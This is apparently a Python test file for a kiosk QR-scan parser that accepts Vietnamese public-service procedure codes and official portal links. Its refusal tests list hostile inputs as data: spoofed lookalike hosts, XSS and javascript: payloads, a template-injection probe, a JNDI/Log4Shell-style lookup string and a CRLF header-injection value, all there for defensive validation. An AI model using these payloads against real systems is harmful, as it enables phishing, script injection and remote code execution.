"""The meaning of a scanned QR payload: `kiosk.qrpayload.parse_scan` (pure)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.qrpayload import MAX_PAYLOAD_BYTES, ScanVerdict, parse_scan

KNOWN = {"1.001193", "1.000894", "2.000635"}


def verdict(payload: str | bytes, **kwargs: object) -> ScanVerdict:
    return parse_scan(payload, known_codes=KNOWN, **kwargs).verdict  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "payload",
    [
        "1.001193",
        " 1.001193\n",
        "\ufeff1.001193",
        b"1.001193",
        "https://dichvucong.gov.vn/tim-kiem-thu-tuc-hanh-chinh?keyword=1.001193",
        "https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh-chi-tiet.html?ma_thu_tuc=1.001193",
        "https://www.dichvucong.gov.vn/?ma_thu_tuc=1.001193&lang=vi",
        "HTTPS://DICHVUCONG.GOV.VN/?KEYWORD=1.001193",
        "https://dichvucong.gov.vn./?keyword=1.001193",
        "https://dichvucong.gov.vn:443/?keyword=1.001193",
        "https://dichvucong.gov.vn/?keyword=1.001193#top",
        "https://dichvucong.gov.vn/?keyword=1.001193&keyword=1.001193",
        "https://dichvucong.gov.vn/?x=1&keyword=%201.001193%20",
    ],
)
def test_procedure_codes_and_portal_links_are_accepted(payload: str | bytes):
    result = parse_scan(payload, known_codes=KNOWN)
    assert result.verdict is ScanVerdict.PROCEDURE, result
    assert result.code == "1.001193"
    assert result.accepted


def test_the_sample_catalogue_links_are_accepted(procedures):
    codes = {p.code for p in procedures}
    online = [p for p in procedures if p.online_url is not None]
    assert len(online) >= 25
    for procedure in online:
        assert procedure.online_url is not None
        result = parse_scan(procedure.online_url, known_codes=codes)
        assert result.accepted and result.code == procedure.code, procedure.online_url


def test_a_code_not_in_the_catalogue_is_unknown_but_named():
    result = parse_scan("1.999999", known_codes=KNOWN)
    assert result.verdict is ScanVerdict.UNKNOWN_PROCEDURE
    assert result.code == "1.999999"
    assert verdict("https://dichvucong.gov.vn/?ma_thu_tuc=3.000123") is ScanVerdict.UNKNOWN_PROCEDURE


def test_without_a_catalogue_any_well_formed_code_is_accepted():
    assert parse_scan("9.123456").verdict is ScanVerdict.PROCEDURE


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("https://evil.example/?ma_thu_tuc=1.001193", ScanVerdict.OTHER_SITE),
        ("https://dichvucong.gov.vn.evil.example/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://evildichvucong.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://dichvucong.gov.vn@evil.example/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://user:pw@dichvucong.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("http://dichvucong.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://dichvucong.gov.vn:8443/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("ftp://dichvucong.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://xn--dchvucng-n1a.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://dịchvụcông.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://127.0.0.1/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("www.dichvucong.gov.vn/?keyword=1.001193", ScanVerdict.OTHER_SITE),
        ("https://dichvucong.gov.vn/", ScanVerdict.NO_CODE),
        ("https://dichvucong.gov.vn/?keyword=dang+ky+khai+sinh", ScanVerdict.NO_CODE),
        ("https://dichvucong.gov.vn/?keyword=1.001193&keyword=1.000894", ScanVerdict.NO_CODE),
        ("https://dichvucong.gov.vn/?other=1.001193", ScanVerdict.NO_CODE),
        ("https://dichvucong.gov.vn/?ma_thu_tuc=1.0011930", ScanVerdict.NO_CODE),
        ("javascript:alert(1)", ScanVerdict.SCRIPT),
        ("JaVaScRiPt:alert(document.cookie)", ScanVerdict.SCRIPT),
        ("data:text/html,<script>alert(1)</script>", ScanVerdict.SCRIPT),
        ("<script>alert('x')</script>", ScanVerdict.SCRIPT),
        ("https://dichvucong.gov.vn/?keyword=<script>", ScanVerdict.SCRIPT),
        ("{{7*7}}", ScanVerdict.SCRIPT),
        ("${jndi:ldap://evil/a}", ScanVerdict.SCRIPT),
        ("Thủ tục đăng ký khai sinh", ScanVerdict.NOT_A_PROCEDURE),
        ("WIFI:S:hall;T:WPA;P:secret;;", ScanVerdict.OTHER_SITE),
        ("1.001193 extra", ScanVerdict.NOT_A_PROCEDURE),
        ("1,001193", ScanVerdict.NOT_A_PROCEDURE),
        ("", ScanVerdict.NOT_A_PROCEDURE),
        ("   ", ScanVerdict.NOT_A_PROCEDURE),
        ("1.001193\x00", ScanVerdict.BINARY),
        ("1.001193\u202e", ScanVerdict.BINARY),
        ("https://dichvucong.gov.vn/?keyword=1.001193\r\nSet-Cookie: x", ScanVerdict.BINARY),
        (b"\xff\xfe\x00binary", ScanVerdict.BINARY),
        (b"\x89PNG\r\n\x1a\n", ScanVerdict.BINARY),
        ("x" * (MAX_PAYLOAD_BYTES + 1), ScanVerdict.TOO_LARGE),
        ("https://dichvucong.gov.vn/?keyword=1.001193&pad=" + "a" * 600, ScanVerdict.TOO_LARGE),
    ],
)
def test_anything_else_is_refused_with_a_reason(payload: str | bytes, expected: ScanVerdict):
    result = parse_scan(payload, known_codes=KNOWN)
    assert result.verdict is expected, result
    assert not result.accepted
    assert result.detail  # the log says why


def test_portal_hosts_are_configurable_and_cover_subdomains():
    provincial = "https://dichvucong.laocai.gov.vn/thu-tuc?ma_thu_tuc=1.001193"
    assert verdict(provincial) is ScanVerdict.OTHER_SITE
    hosts = ["dichvucong.gov.vn", "laocai.gov.vn"]
    assert verdict(provincial, portal_hosts=hosts) is ScanVerdict.PROCEDURE
    assert (
        verdict("https://laocai.gov.vn.evil.example/?ma_thu_tuc=1.001193", portal_hosts=hosts) is ScanVerdict.OTHER_SITE
    )


def test_many_query_parameters_do_not_crash():
    url = "https://dichvucong.gov.vn/?" + "&".join(f"p{i}=1" for i in range(60))
    assert verdict(url) is ScanVerdict.NO_CODE


@given(st.binary(max_size=700))
def test_arbitrary_bytes_never_crash(payload: bytes):
    result = parse_scan(payload, known_codes=KNOWN)
    assert isinstance(result.verdict, ScanVerdict)
    if result.accepted:
        assert result.code in KNOWN


@given(st.text(max_size=300))
def test_arbitrary_text_never_crashes_and_only_codes_are_accepted(payload: str):
    result = parse_scan(payload, known_codes=KNOWN)
    if result.accepted:
        assert result.code in KNOWN
        assert "1.001193" in payload or "1.000894" in payload or "2.000635" in payload or "%" in payload
